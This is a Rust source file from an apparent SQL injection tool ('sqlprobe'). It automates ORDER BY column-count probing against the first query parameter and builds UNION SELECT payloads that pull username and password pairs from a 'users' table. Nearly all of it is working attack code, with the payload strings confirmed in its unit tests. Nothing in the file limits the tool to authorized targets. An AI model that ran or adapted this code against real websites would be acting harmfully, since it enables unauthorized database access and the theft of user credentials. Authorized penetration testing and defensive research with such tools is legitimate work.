// Column-count and UNION extraction probes for sqlprobe
// Both are sequential GETs that only touch the first query parameter and
// keep the probed target's headers

use log::debug;

use crate::engine::AttackEngine;
use crate::models::{Dbms, Target};
use crate::mutator::{append_to_first_query_param, first_query_param};
use crate::response_analysis::extract_credentials;

/// Find the width of the injectable SELECT by raising `ORDER BY n` until the
/// server errors out (status >= 500).
///
/// Each attempt sends a single fresh clause appended to the parameter's
/// original value. Stops at the first 5xx, the first transport failure, or
/// after `max_attempts` clean responses, and returns the last count that
/// did not fail. Targets without a query parameter give 0.
pub async fn probe_column_count(engine: &AttackEngine, target: &Target, max_attempts: usize) -> usize {
    let base_url = target.url.as_str();
    if first_query_param(base_url).is_none() {
        return 0;
    }

    let mut count = 1;
    while count <= max_attempts {
        let Some(url) = append_to_first_query_param(base_url, &format!("' ORDER BY {}-- ", count)) else {
            break;
        };

        match engine.send(&follow_up(target, url)).await {
            Ok(resp) if resp.status >= 500 => {
                debug!("ORDER BY {} rejected with {} on {}", count, resp.status, base_url);
                break;
            }
            Ok(_) => count += 1,
            Err(e) => {
                debug!("Column probe stopped at {} on {}: {}", count, base_url, e);
                break;
            }
        }
    }

    count - 1
}

/// GET against a rewritten URL carrying the probed target's headers
fn follow_up(target: &Target, url: String) -> Target {
    Target::get(url).with_headers(target.headers.clone())
}

/// Build the UNION payload that lines `username,password` up behind
/// `columns - 2` NULL placeholders.
pub fn build_union_payload(columns: usize) -> String {
    let nulls = "NULL,".repeat(columns.saturating_sub(2));
    format!("' UNION SELECT {}username,password FROM users-- ", nulls)
}

/// Try to read one username/password pair through a UNION query.
///
/// Only MySQL and PostgreSQL have an extraction strategy. Anything else,
/// and any failure along the way, yields `(None, None)`.
pub async fn extract_union(
    engine: &AttackEngine,
    dbms: Dbms,
    target: &Target,
    max_column_probe: usize,
) -> (Option<String>, Option<String>) {
    match dbms {
        Dbms::MySql | Dbms::PostgreSql => {}
        _ => return (None, None),
    }

    let columns = probe_column_count(engine, target, max_column_probe).await;
    let Some(url) = append_to_first_query_param(&target.url, &build_union_payload(columns)) else {
        return (None, None);
    };

    debug!("{} UNION extraction with {} columns on {}", dbms, columns, target.url);
    match engine.send(&follow_up(target, url)).await {
        Ok(resp) => match extract_credentials(&resp.body) {
            Some((user, pass)) => (Some(user), Some(pass)),
            None => (None, None),
        },
        Err(_) => (None, None),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_union_payload_padding() {
        assert_eq!(build_union_payload(4), "' UNION SELECT NULL,NULL,username,password FROM users-- ");
        assert_eq!(build_union_payload(2), "' UNION SELECT username,password FROM users-- ");
    }

    #[test]
    fn test_union_payload_saturates_below_two_columns() {
        assert_eq!(build_union_payload(0), build_union_payload(2));
        assert_eq!(build_union_payload(1), build_union_payload(2));
    }
}
